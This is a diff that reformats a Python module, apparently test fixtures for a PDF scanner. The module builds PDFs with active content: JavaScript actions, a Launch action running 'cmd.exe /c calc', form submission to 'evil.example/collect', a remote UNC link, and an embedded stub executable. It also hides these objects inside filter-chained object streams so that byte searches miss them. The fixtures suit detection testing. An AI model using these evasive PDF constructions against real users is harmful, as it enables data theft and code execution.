@@ -6,6 +6,7 @@ file whose cross-reference stream points into an object stream encoded as the ca
 `[/FlateDecode /FlateDecode]` or `/ASCIIHexDecode`. A byte search, or a single inflate, sees no name of
 the active content; a PDF reader (and qpdf) decodes the chain and finds it.
 """
+
 from __future__ import annotations
 
 import binascii
@@ -44,9 +45,16 @@ def lossless_scan(pages: int = 2) -> bytes:
     for number in range(pages):
         line = 400 + number * 40  # a "line of text" every 500 rows
         pixels = b"".join(ink if line < y % 500 < line + 20 else row for y in range(height))
-        image = pdf.make_stream(zlib.compress(pixels, 6), Type=Name.XObject, Subtype=Name.Image, Width=width,
-                                Height=height, ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
-                                Filter=Name.FlateDecode)
+        image = pdf.make_stream(
+            zlib.compress(pixels, 6),
+            Type=Name.XObject,
+            Subtype=Name.Image,
+            Width=width,
+            Height=height,
+            ColorSpace=Name.DeviceRGB,
+            BitsPerComponent=8,
+            Filter=Name.FlateDecode,
+        )
         page = pdf.add_blank_page(page_size=(595, 842))
         page.Resources = Dictionary(XObject=Dictionary(Im0=image))
         page.Contents = pdf.make_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q")
@@ -65,20 +73,30 @@ def _action(pdf: pikepdf.Pdf, **entries) -> pikepdf.Object:
 
 def _annotation(pdf: pikepdf.Pdf, **entries) -> None:
     page = pdf.pages[0]
-    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Rect=Array([72, 600, 300, 640]), **entries))]))
+    page.Annots = pdf.make_indirect(
+        Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([72, 600, 300, 640]), **entries))])
+    )
 
 
 def _file_spec(pdf: pikepdf.Pdf) -> pikepdf.Object:
     executable = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60)
     executable.Type = Name.EmbeddedFile
-    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), UF=String("a.exe"),
-                                        EF=Dictionary(F=executable)))
+    return pdf.make_indirect(
+        Dictionary(Type=Name.Filespec, F=String("a.exe"), UF=String("a.exe"), EF=Dictionary(F=executable))
+    )
 
 
 def _form(pdf: pikepdf.Pdf, xfa: bool = False) -> None:
-    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("ho_ten"),
-                                         Rect=Array([72, 600, 300, 620]), P=pdf.pages[0].obj))
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("ho_ten"),
+            Rect=Array([72, 600, 300, 620]),
+            P=pdf.pages[0].obj,
+        )
+    )
     pdf.pages[0].Annots = Array([field])
     form = Dictionary(Fields=Array([field]))
     if xfa:
@@ -87,8 +105,9 @@ def _form(pdf: pikepdf.Pdf, xfa: bool = False) -> None:
 
 
 def _names_javascript(pdf: pikepdf.Pdf) -> None:
-    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([
-        String("init"), _action(pdf, S=Name.JavaScript, JS=JS)])))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("init"), _action(pdf, S=Name.JavaScript, JS=JS)]))
+    )
 
 
 def _page_additional_action(pdf: pikepdf.Pdf) -> None:
@@ -101,25 +120,45 @@ def _attachment(pdf: pikepdf.Pdf) -> None:
 
 # name -> what it adds to a one-page document
 ACTIVE = {
-    "openaction-javascript": lambda pdf: setattr(pdf.Root, "OpenAction",
-                                                 _action(pdf, S=Name.JavaScript, JS=JS)),
-    "annotation-javascript": lambda pdf: _annotation(pdf, Subtype=Name.Link,
-                                                     A=_action(pdf, S=Name.JavaScript, JS=JS)),
+    "openaction-javascript": lambda pdf: setattr(
+        pdf.Root, "OpenAction", _action(pdf, S=Name.JavaScript, JS=JS)
+    ),
+    "annotation-javascript": lambda pdf: _annotation(
+        pdf, Subtype=Name.Link, A=_action(pdf, S=Name.JavaScript, JS=JS)
+    ),
     "page-additional-action": _page_additional_action,
     "names-javascript-tree": _names_javascript,
-    "launch": lambda pdf: setattr(pdf.Root, "OpenAction", _action(
-        pdf, S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
-    "import-data": lambda pdf: _annotation(pdf, Subtype=Name.Link,
-                                           A=_action(pdf, S=Name.ImportData, F=String("data.fdf"))),
-    "submit-form": lambda pdf: _annotation(pdf, Subtype=Name.Link, A=_action(
-        pdf, S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")))),
-    "goto-remote-file": lambda pdf: _annotation(pdf, Subtype=Name.Link, A=_action(
-        pdf, S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit]))),
-    "goto-embedded": lambda pdf: _annotation(pdf, Subtype=Name.Link, A=_action(
-        pdf, S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")), D=Array([0, Name.Fit]))),
+    "launch": lambda pdf: setattr(
+        pdf.Root,
+        "OpenAction",
+        _action(
+            pdf, S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
+        ),
+    ),
+    "import-data": lambda pdf: _annotation(
+        pdf, Subtype=Name.Link, A=_action(pdf, S=Name.ImportData, F=String("data.fdf"))
+    ),
+    "submit-form": lambda pdf: _annotation(
+        pdf,
+        Subtype=Name.Link,
+        A=_action(
+            pdf, S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
+        ),
+    ),
+    "goto-remote-file": lambda pdf: _annotation(
+        pdf,
+        Subtype=Name.Link,
+        A=_action(pdf, S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])),
+    ),
+    "goto-embedded": lambda pdf: _annotation(
+        pdf,
+        Subtype=Name.Link,
+        A=_action(pdf, S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")), D=Array([0, Name.Fit])),
+    ),
     "embedded-file": _attachment,
-    "file-attachment-annotation": lambda pdf: _annotation(pdf, Subtype=Name.FileAttachment,
-                                                          FS=_file_spec(pdf)),
+    "file-attachment-annotation": lambda pdf: _annotation(
+        pdf, Subtype=Name.FileAttachment, FS=_file_spec(pdf)
+    ),
     "acroform": _form,
     "xfa-form": lambda pdf: _form(pdf, xfa=True),
     "richmedia": lambda pdf: _annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
@@ -138,8 +177,10 @@ def active(kind: str) -> bytes:
 FILTERS = {
     "flate-twice": (b"[/FlateDecode /FlateDecode]", lambda data: zlib.compress(zlib.compress(data))),
     "ascii-hex": (b"/ASCIIHexDecode", lambda data: binascii.hexlify(data) + b">"),
-    "ascii-hex-then-flate": (b"[/ASCIIHexDecode /FlateDecode]",
-                             lambda data: binascii.hexlify(zlib.compress(data)) + b">"),
+    "ascii-hex-then-flate": (
+        b"[/ASCIIHexDecode /FlateDecode]",
+        lambda data: binascii.hexlify(zlib.compress(data)) + b">",
+    ),
 }
 
 
@@ -147,10 +188,16 @@ def hidden(raw: bytes, packing: str) -> bytes:
     """`raw` re-written with every dictionary in one object stream encoded as FILTERS[packing] says."""
     filters, encode = FILTERS[packing]
     with pikepdf.open(io.BytesIO(raw)) as pdf:
-        plain = {o.objgen[0]: o for o in pdf.objects if isinstance(o, pikepdf.Stream)
-                 and o.get("/Type") not in (Name.ObjStm, Name.XRef)}
-        packed = {o.objgen[0]: o.unparse(resolved=True) for o in pdf.objects
-                  if o is not None and not isinstance(o, pikepdf.Stream)}
+        plain = {
+            o.objgen[0]: o
+            for o in pdf.objects
+            if isinstance(o, pikepdf.Stream) and o.get("/Type") not in (Name.ObjStm, Name.XRef)
+        }
+        packed = {
+            o.objgen[0]: o.unparse(resolved=True)
+            for o in pdf.objects
+            if o is not None and not isinstance(o, pikepdf.Stream)
+        }
         root = pdf.trailer.Root.objgen[0]
         out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
         offsets = {}
@@ -170,9 +217,10 @@ def hidden(raw: bytes, packing: str) -> bytes:
     head = b" ".join(header) + b"\n"
     data = encode(head + body)
     offsets[holder] = len(out)
-    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\n"
-            b"stream\n%s\nendstream\nendobj\n") % (
-        holder, len(packed), len(head), filters, len(data), data)
+    out += (
+        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d >>\n"
+        b"stream\n%s\nendstream\nendobj\n"
+    ) % (holder, len(packed), len(head), filters, len(data), data)
     rows = b""
     index = {number: position for position, number in enumerate(packed)}
     for number in range(xref + 1):
@@ -183,8 +231,9 @@ def hidden(raw: bytes, packing: str) -> bytes:
         else:
             rows += struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0)
     start = len(out)
-    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\n"
-            b"stream\n%s\nendstream\nendobj\n") % (
-        xref, xref + 1, root, len(rows), rows)
+    out += (
+        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\n"
+        b"stream\n%s\nendstream\nendobj\n"
+    ) % (xref, xref + 1, root, len(rows), rows)
     out += b"startxref\n%d\n%%%%EOF\n" % start
     return bytes(out)
